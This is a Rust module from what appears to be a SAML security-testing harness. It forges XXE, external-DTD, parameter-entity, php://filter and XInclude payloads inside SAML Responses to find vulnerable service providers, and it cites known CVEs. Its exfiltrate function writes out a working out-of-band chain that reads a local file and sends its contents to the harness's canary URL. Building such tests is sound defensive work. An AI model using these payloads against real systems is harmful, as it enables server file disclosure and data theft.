//! External entities, external DTDs and XInclude: the IdP's own response, plus a DOCTYPE or
//! an include that makes a parser fetch a URL on the harness's canary listener (or read a
//! local file and send it there, or open the check's local file, which the harness watches).
//! Nothing signed changes, so only the fetch is judged.

use crate::bytes::{insert, qualified_name, splice, Doc};
use crate::family::Parts;
use crate::forge::{Forge, Forged, LocalFile, Served, Skip};
use saml_protocol::XINCLUDE_NS;

/// The path below the canary prefix that the exfiltration probe sends the file's content to,
/// in its `content` query parameter.
pub const EXFILTRATION_PATH: &str = "file";

/// The seed without its XML declaration, its root's qualified name (for the DOCTYPE), and
/// `content` inserted in a `samlp:Extensions` after the Response header (outside the signed
/// Assertion).
fn with_extension(f: &Forge, content: &str) -> Result<(String, String), Skip> {
    let seed = crate::family::xsw::embeddable(f.seed);
    let doc = Doc::parse(seed)?;
    let p = Parts::of(&doc)?;
    let root = qualified_name(doc.src, p.root).to_owned();
    let extensions = match root.split_once(':') {
        Some((prefix, _)) => format!("{prefix}:Extensions"),
        None => "Extensions".to_owned(),
    };
    let xml = splice(
        doc.src,
        vec![insert(
            p.after_response_header(),
            format!("<{extensions}>{content}</{extensions}>"),
        )],
    );
    Ok((root, xml))
}

/// The seed without its XML declaration and its root's qualified name.
fn bare(f: &Forge) -> Result<(String, String), Skip> {
    let seed = crate::family::xsw::embeddable(f.seed);
    let doc = Doc::parse(seed)?;
    let p = Parts::of(&doc)?;
    Ok((qualified_name(doc.src, p.root).to_owned(), seed.to_owned()))
}

/// An element in a namespace of its own that carries `text` (schema-valid inside Extensions).
fn probe_element(text: &str) -> String {
    format!("<c:probe xmlns:c=\"urn:saml-harness:canary\">{text}</c:probe>")
}

/// An external general entity on the canary, referenced in an Extensions element (pysaml2
/// CVE-2016-10149, FusionAuth CVE-2021-27736).
pub fn external_entity(f: &Forge) -> Result<Forged, Skip> {
    let url = format!("{}/entity", f.canary()?.prefix);
    Ok(Forged::same_identity(entity_at(f, &url)?))
}

/// An external parameter entity on the canary, expanded in the internal subset (SAML
/// Raider's out-of-band XXE): fetched while the DTD is read, no reference in content needed.
pub fn parameter_entity(f: &Forge) -> Result<Forged, Skip> {
    let url = format!("{}/parameter-entity", f.canary()?.prefix);
    Ok(Forged::same_identity(parameter_entity_at(f, &url)?))
}

/// An external DTD subset on the canary (`<!DOCTYPE r SYSTEM "…">`).
pub fn external_dtd(f: &Forge) -> Result<Forged, Skip> {
    let url = format!("{}/external.dtd", f.canary()?.prefix);
    Ok(Forged::same_identity(external_dtd_at(f, &url)?))
}

/// [`external_dtd`] through PHP's `php://filter` wrapper, which reads its `resource=` URL:
/// `LIBXML_NONET` refuses only URLs that start with `http://` or `ftp://`, so this reaches the
/// canary from a PHP SP that relies on it (simplesamlphp/saml2 < 4.6.14, xml-common < 1.20.0).
pub fn php_filter_external_dtd(f: &Forge) -> Result<Forged, Skip> {
    let url = format!(
        "php://filter/resource={}/php-filter.dtd",
        f.canary()?.prefix
    );
    Ok(Forged::same_identity(external_dtd_at(f, &url)?))
}

/// [`parameter_entity`] through PHP's `php://filter` wrapper.
pub fn php_filter_parameter_entity(f: &Forge) -> Result<Forged, Skip> {
    let url = format!(
        "php://filter/resource={}/php-filter-entity",
        f.canary()?.prefix
    );
    Ok(Forged::same_identity(parameter_entity_at(f, &url)?))
}

/// [`external_entity`] naming the check's watched local file: a parser kept off the network
/// (PHP's `LIBXML_NONET`, lxml `no_network=True`) still opens it (simplesamlphp/saml2
/// CVE-2024-52806).
pub fn local_external_entity(f: &Forge) -> Result<Forged, Skip> {
    Ok(watched(entity_at(f, &watched_file(f)?)?))
}

/// [`parameter_entity`] naming the check's watched local file.
pub fn local_parameter_entity(f: &Forge) -> Result<Forged, Skip> {
    Ok(watched(parameter_entity_at(f, &watched_file(f)?)?))
}

/// [`external_dtd`] naming the check's watched local file.
pub fn local_external_dtd(f: &Forge) -> Result<Forged, Skip> {
    Ok(watched(external_dtd_at(f, &watched_file(f)?)?))
}

/// [`xinclude`] naming the check's watched local file.
pub fn local_xinclude(f: &Forge) -> Result<Forged, Skip> {
    Ok(watched(include_of(f, &watched_file(f)?)?))
}

/// The check's local file as a `file:` URL.
fn watched_file(f: &Forge) -> Result<String, Skip> {
    Ok(f.canary()?.file_url())
}

/// `xml`, whose work is to make the SP open the check's local file, which the harness
/// watches.
fn watched(xml: String) -> Forged {
    Forged {
        local_file: Some(LocalFile::Watched),
        ..Forged::same_identity(xml)
    }
}

/// The seed with an external general entity at `url`, referenced in an Extensions element.
fn entity_at(f: &Forge, url: &str) -> Result<String, Skip> {
    let (root, xml) = with_extension(f, &probe_element("&probe;"))?;
    Ok(format!(
        "<!DOCTYPE {root} [<!ENTITY probe SYSTEM \"{url}\">]>{xml}"
    ))
}

/// The seed with an external parameter entity at `url`, expanded in the internal subset.
fn parameter_entity_at(f: &Forge, url: &str) -> Result<String, Skip> {
    let (root, xml) = bare(f)?;
    Ok(format!(
        "<!DOCTYPE {root} [<!ENTITY % probe SYSTEM \"{url}\"> %probe;]>{xml}"
    ))
}

/// The seed with its external DTD subset at `url`.
fn external_dtd_at(f: &Forge, url: &str) -> Result<String, Skip> {
    let (root, xml) = bare(f)?;
    Ok(format!("<!DOCTYPE {root} SYSTEM \"{url}\">{xml}"))
}

/// The out-of-band exfiltration chain: a parameter entity loads a DTD from the canary, which
/// reads the check's local canary file and sends its content back to the canary in a URL
/// (a file with a newline, `/etc/hostname` say, makes libxml2 refuse the URL, so the harness
/// writes one without).
pub fn exfiltrate(f: &Forge) -> Result<Forged, Skip> {
    let (canary, file) = (&f.canary()?.prefix, f.canary()?.file_url());
    let (root, xml) = bare(f)?;
    let dtd = format!(
        "<!ENTITY % file SYSTEM \"{file}\">\n\
         <!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM '{canary}/{EXFILTRATION_PATH}?content=%file;'>\">\n\
         %wrap;\n%send;\n"
    );
    Ok(Forged {
        served: vec![Served {
            path: "exfiltrate.dtd".into(),
            body: dtd,
        }],
        ..Forged::same_identity(format!(
            "<!DOCTYPE {root} [<!ENTITY % dtd SYSTEM \"{canary}/exfiltrate.dtd\"> %dtd;]>{xml}"
        ))
    })
}

/// An XInclude of a canary URL in an Extensions element (no DTD at all).
pub fn xinclude(f: &Forge) -> Result<Forged, Skip> {
    let url = format!("{}/xinclude", f.canary()?.prefix);
    Ok(Forged::same_identity(include_of(f, &url)?))
}

/// The seed with an XInclude of `url` in an Extensions element.
fn include_of(f: &Forge, url: &str) -> Result<String, Skip> {
    let include = format!("<xi:include xmlns:xi=\"{XINCLUDE_NS}\" href=\"{url}\"/>");
    let (_, xml) = with_extension(f, &probe_element(&include))?;
    Ok(xml)
}
